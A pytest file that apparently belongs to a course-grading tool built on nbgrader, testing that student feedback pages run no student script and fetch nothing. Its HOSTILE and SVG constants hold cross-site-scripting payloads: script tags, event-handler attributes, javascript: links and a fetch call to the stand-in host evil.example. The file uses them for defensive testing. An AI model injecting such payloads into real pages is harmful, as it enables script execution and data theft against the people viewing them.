"""Feedback: a page for each student, in which nothing of theirs runs and nothing is fetched."""

import json
import re
import shutil

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.server_extensions.formgrader import handlers

from ilkit.cli import main
from ilkit.grading.course import Course
from ilkit.grading.ledger import Ledger
from ilkit.grading.markup import MAX_FORMULAS, MAX_MARKDOWN, element, markdown, page
from ilkit.grading.verdict import GRADED, NOT_GRADED, REFUSED, Mark, Verdict

SLUG = "hw1-behavior-cloning"
RUN = "console.log('ran'); fetch('https://evil.example/run')"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>"
HOSTILE = f"""<script>{RUN}</script><img src=x onerror="{RUN}"><iframe
srcdoc="<script>console.log('ran')</script>"></iframe> <svg onload="{RUN}"></svg> <style>@import 'https://evil.example/css'</style>
<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example">
<form action="https://evil.example"><button autofocus onfocus="{RUN}"></form> <details open
ontoggle="{RUN}"> <link rel=stylesheet href="https://evil.example/link"> <object
data="data:text/html,<script>{RUN}</script>"></object></section></main></pre></script><script>{RUN}</script>

![picture](https://evil.example/image) [click](javascript:{RUN}) [data](data:text/html,x)
![x" onerror="{RUN}](x) <javascript:{RUN}> [ref] [a]( JaVaScRiPt:alert(1) ) ![b][ref]

```mermaid
</pre><script>{RUN}</script>
```

```"><script>{RUN}</script>
x
```

$</script><script>{RUN}</script>$ \\begin{{x}}<script>{RUN}</script>\\end{{x}}

[ref]: javascript:{RUN.replace(" ", "")} "\\"><script>{RUN}</script>"
"""


def graded(kind: str, name: str, source: str, **more):
    cell = new_code_cell(source) if kind == "code" else new_markdown_cell(source)
    given = {"schema_version": 3, "grade_id": name, "task": False, "locked": False}
    cell.metadata.nbgrader = given | {"solution": False, "grade": False} | more
    return cell


def notebook(answer: str = "def nll(): ...", idea: str = "", hostile: bool = False):
    """A graded copy: text, an answer with its hidden test, and a written answer."""
    failed = [new_output("error", ename="AssertionError", evalue=idea, traceback=[])]
    cells = [
        new_markdown_cell("# Behavior cloning\n\nThe loss is $-\\log \\pi$, **bold**, `code`."),
        graded("code", "nll", answer, solution=True),
        graded("code", "nll-test", "assert secret", grade=True, points=20),
        graded("markdown", "why", "Because $a<b$.", grade=True, solution=True, points=10),
    ]
    cells[2].outputs = failed if idea else []
    if hostile:
        cells[3].source = HOSTILE
        cells[1].outputs = [
            new_output("stream", text=HOSTILE),
            new_output("error", ename=HOSTILE, evalue=HOSTILE, traceback=[HOSTILE]),
            new_output("display_data", {"text/html": HOSTILE, "text/plain": HOSTILE}),
            new_output("display_data", {"image/svg+xml": SVG, "text/markdown": HOSTILE}),
            new_output("display_data", {"application/javascript": RUN, "text/latex": HOSTILE}),
            new_output("display_data", {"image/png": f'x" onerror="{RUN}'}),
        ]
        cells[1].source = HOSTILE
        cells.append(new_markdown_cell(HOSTILE, attachments={"a": {"image/svg+xml": SVG}}))
        cells.append(nbformat.v4.new_raw_cell(HOSTILE, metadata={"raw_mimetype": "text/html"}))
    return new_notebook(cells=cells, metadata={"title": HOSTILE} if hostile else {})


class Class:
    """A course with a gradebook, to which students are added."""

    def __init__(self, root, book):
        self.root, self.book = root, book

    def add(self, student: str, *scores: tuple[float | None, bool], made=None, **verdict) -> None:
        """Scores of the test and of the written answer, and whether each waits for a person."""
        self.book.add_student(student)
        self.book.add_submission(SLUG, student)
        self.book.db.commit()
        for name, (score, waits) in zip(("nll-test", "why"), scores, strict=True):
            grade = self.book.find_grade(name, SLUG, SLUG, student)
            grade.auto_score, grade.needs_manual_grade = score, waits
        self.book.db.commit()
        if made is not None:
            path = self.root / "autograded" / student / SLUG / f"{SLUG}.ipynb"
            path.parent.mkdir(parents=True)
            path.write_text(made if isinstance(made, str) else nbformat.writes(made))
        if verdict:
            Ledger(self.root, SLUG).write(student, "key", "namespaces", Verdict(**verdict))

    def page(self, student: str) -> str:
        return (self.root / "feedback" / student / SLUG / f"{SLUG}.html").read_text()


@pytest.fixture
def course(tmp_path, root, empty_gradebook, monkeypatch):
    shutil.copy(root / "nbgrader_config.py", tmp_path)
    shutil.copy(empty_gradebook, tmp_path)
    (tmp_path / "solutions" / SLUG).mkdir(parents=True)
    (tmp_path / "solutions" / SLUG / f"{SLUG}.py").touch()
    (tmp_path / "submitted").mkdir()
    monkeypatch.chdir(tmp_path)
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db", "imitation-learning") as book:
        book.add_assignment(SLUG)
        book.add_notebook(SLUG, SLUG)
        book.add_grade_cell("nll-test", SLUG, SLUG, max_score=20, cell_type="code")
        book.add_grade_cell("why", SLUG, SLUG, max_score=10, cell_type="markdown")
        for name in ("nll", "why"):
            book.add_solution_cell(name, SLUG, SLUG)
        yield Class(tmp_path, book)


def test_a_page_has_the_score_and_names_the_idea_and_not_the_test(course):
    course.add("ada", (0, False), (7.5, False), made=notebook(idea="it falls as the data fit"))
    (course.root / "deadlines.yml").write_text(
        f"{SLUG}: {{due: 2026-10-12T12:00Z, penalty: 0.2, extensions: {{bob: +1 day}}}}"
    )
    assert main(["feedback", SLUG]) == 0
    page = course.page("ada")
    assert "Score: 7.5 of 30 points." in page
    assert "it falls as the data fit" in page
    assert "assert secret" not in page
    assert "def nll(): ..." in page
    assert "<strong>bold</strong>" in page
    assert "$a&lt;b$" in page


def test_not_graded_is_told_with_its_reason_and_is_no_zero(course):
    marks = (Mark("nll", None, 20, "the time was up"), Mark("why", None, 10, "graded by hand"))
    made, notes = notebook(), ("torch.py was not used",)
    course.add(
        "ada",
        (None, True),
        (None, True),
        made=made,
        status=NOT_GRADED,
        parts=marks,
        notes=notes,
        reason="the time was up",
    )
    course.add("bob", (20, False), (None, True), made=made)
    course.add("eve", (20, True), (10, True), made=made, status=GRADED, parts=(), flags=("liar",))
    assert main(["feedback", SLUG]) == 0
    ada, bob, eve = map(course.page, ("ada", "bob", "eve"))
    assert "not graded: the time was up" in ada
    assert "waits to be graded by hand" in ada
    assert "30 points are not graded. That is not a zero" in ada
    assert "torch.py was not used" in ada
    assert "all passed" not in ada
    assert "So far: 20 of 20 points." in bob
    assert "10 points are not graded." in bob
    assert "A person looks at this submission before its points count." in eve
    assert "liar" not in eve
    for told in (ada, bob, eve):
        assert "Score:" not in told


def test_lateness_and_comments_are_told(course):
    course.add("ada", (20, False), (0, False), made=notebook())
    course.book.find_submission_notebook(SLUG, SLUG, "ada").late_submission_penalty = 4
    course.book.find_comment("why", SLUG, SLUG, "ada").manual_comment = "See **chapter** 2."
    course.book.db.commit()
    assert main(["feedback", SLUG, "--student", "ada"]) == 0
    assert "Score: 16 of 30 points." in course.page("ada")
    assert "4 points are taken off, since it came late." in course.page("ada")
    assert "See <strong>chapter</strong> 2." in course.page("ada")


def test_a_broken_notebook_stops_nobody(course, capsys):
    course.add("ada", (20, False), (1, False), made="{ not a notebook")
    course.add("bob", (20, False), (1, False), made=notebook())
    strange = notebook()
    strange.cells[2].metadata.nbgrader.grade_id = "unknown"
    course.add("eve", (20, False), (1, False), made=strange)
    refused = {"status": REFUSED, "parts": (), "reason": "the file is a <link>; hand in a copy."}
    course.add("max", (None, True), (None, True), **refused)
    course.add("zoe", (20, False), (1, False))
    (course.root / "submitted" / "zoe" / SLUG).mkdir(parents=True)
    (course.root / "submitted" / "max" / SLUG).mkdir(parents=True)
    assert main(["feedback", SLUG, "--json"]) == 1
    told = capsys.readouterr()
    rows = {row["student"]: row["reason"] for row in json.loads(told.out)["feedback"]}
    assert "NotJSONError" in rows["ada"]
    assert "unknown" in rows["eve"]
    assert rows["zoe"] == "it is not graded; run `ilkit grade` first"
    assert (rows["bob"], rows["max"]) == (None, None)
    assert "Score: 21 of 30" in course.page("bob")
    assert "could not be graded: the file is a &lt;link&gt;; hand in a copy." in course.page("max")
    assert len(told.err.splitlines()) == 3
    assert main(["feedback", SLUG, "--student", "adda"]) == 2
    assert "did you mean 'ada'" in capsys.readouterr().err


def test_a_page_that_cannot_be_made_anew_stays(course, capsys):
    course.add("ada", (20, False), (1, False), made=notebook())
    assert main(["feedback", SLUG]) == 0
    before, path = course.page("ada"), course.root / "autograded" / "ada" / SLUG / f"{SLUG}.ipynb"
    good = path.read_text()
    path.write_text("{ not a notebook")
    capsys.readouterr()
    assert main(["feedback", SLUG, "--student", "ada"]) == 1
    assert "the earlier page is kept" in capsys.readouterr().err
    path.write_text(good)
    config = course.root / "nbgrader_config.py"
    address = "postgresql://course:password@127.0.0.1:1/grades"
    config.write_text(config.read_text() + f"\nc.CourseDirectory.db_url = {address!r}\n")
    assert main(["feedback", SLUG, "--student", "ada"]) == 1
    error = capsys.readouterr().err
    said = "ilkit: gradebook: expected a database at postgresql://course:***@127.0.0.1:1/grades, "
    assert error.startswith(said)
    assert error.count("\n") == 1
    assert "sqlalche" not in error
    assert course.page("ada") == before
    assert [p.name for p in (course.root / "feedback" / "ada").iterdir()] == [SLUG]


def test_before_anybody_has_handed_in_the_command_says_so(course, capsys):
    assert main(["feedback", SLUG]) == 0
    assert f"nobody has handed in {SLUG}; run `ilkit collect`" in capsys.readouterr().err


def test_nbgraders_own_command_makes_the_same_page(course):
    course.add("ada", (20, False), (1, False), made=notebook())
    main(["feedback", SLUG])
    ours, config = course.page("ada"), Course(course.root).config
    folder = CourseDirectory(config=config, assignment_id=SLUG, student_id="ada")
    converter = GenerateFeedback(coursedir=folder, config=config)
    converter.force = True
    converter.start()
    assert course.page("ada") == ours


@pytest.fixture(scope="module")
def opened(browser):
    """opened(path): whether a script ran there, and what the page asked for elsewhere."""

    def look(path) -> tuple[bool, list[str]]:
        page, asked, logged = browser.new_page(), [], []
        page.on("console", lambda message: logged.append(message.text))

        def gate(route) -> None:
            if route.request.url == path.as_uri():
                return route.continue_()
            if not route.request.url.startswith("data:"):
                asked.append(route.request.url)
            return route.abort()

        page.route("**/*", gate)
        page.goto(path.as_uri())
        page.wait_for_timeout(300)
        page.close()
        return "ran" in logged, asked

    return look


def rendered(course, config, template: str):
    """The graded copy of ada, as formgrader renders it for the instructor."""
    config = config.copy()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    names = {"assignment_id": SLUG, "notebook_id": SLUG, "submission_id": "x", "index": 0}
    names |= {"total": 1, "base_url": "", "student": "ada", "notebook_path": ""}
    path = course.root / "autograded" / "ada" / SLUG / f"{SLUG}.ipynb"
    html, _ = HTMLExporter(config=config).from_filename(str(path), resources=names)
    (course.root / f"{template}.html").write_text(html)
    return course.root / f"{template}.html"


def test_nothing_of_a_students_runs_in_a_browser(course, opened):
    """On stock pages the same notebook runs its script and calls home."""
    notes = {"status": GRADED, "parts": (), "notes": (HOSTILE,)}
    course.add("ada", (0, False), (0, False), made=notebook(HOSTILE, HOSTILE, True), **notes)
    course.book.find_comment("nll", SLUG, SLUG, "ada").auto_comment = HOSTILE
    course.book.db.commit()
    assert main(["feedback", SLUG]) == 0
    config = Course(course.root).config
    stock = config.copy()
    del stock["HTMLExporter"]
    ran, asked = opened(rendered(course, stock, "formgrade"))
    assert ran
    assert [address for address in asked if "evil.example" in address]
    ran, asked = opened(rendered(course, config, "formgrade"))
    assert not ran
    assert not [address for address in asked if "evil.example" in address]
    path = course.root / "feedback" / "ada" / SLUG / f"{SLUG}.html"
    assert opened(path) == (False, [])
    links = re.findall(r'href="([^"]*)"', path.read_text())
    assert links
    assert not [link for link in links if not link.startswith(("http", "mailto:"))]
    path.write_text(path.read_text().split("</head>")[0] + f"</head><body>{HOSTILE}</body>")
    assert opened(path)[0] is False  # the page's policy alone would stop it


def test_a_long_word_does_not_widen_a_page_on_a_phone(browser, tmp_path):
    row = "".join(element("td", text) for text in ("likelihood", "0 of 8", "Error" * 40))
    file = tmp_path / "page.html"
    file.write_text(page("hw", f"<main><table><tr>{row}</tr></table></main>"))
    phone = browser.new_page(viewport={"width": 390, "height": 800})
    phone.goto(file.as_uri())
    assert phone.evaluate("document.documentElement.scrollWidth") == 390
    phone.close()


def test_markdown_is_shown_as_text_where_it_will_not_do():
    assert markdown("x" * (MAX_MARKDOWN + 1)).startswith("<pre>xxx")
    for opening in (r"\\(", r"\\["):  # each is looked for to the end of the text
        assert markdown(opening * (MAX_FORMULAS + 1)).startswith(f"<pre>{opening}")
        assert markdown(opening * MAX_FORMULAS).startswith("<p>")
    assert "[picture: a]" in markdown("![a](https://example.org/a.png)")
    assert 'href="https://example.org"' in markdown("[a](https://example.org)")
    assert "href" not in markdown("[a](javascript:x) [b](//example.org) [c](data:text/html,x)")
    deep = markdown(">" * 5000 + "[" * 5000 + "*" * 5000)
    assert deep.startswith("<")
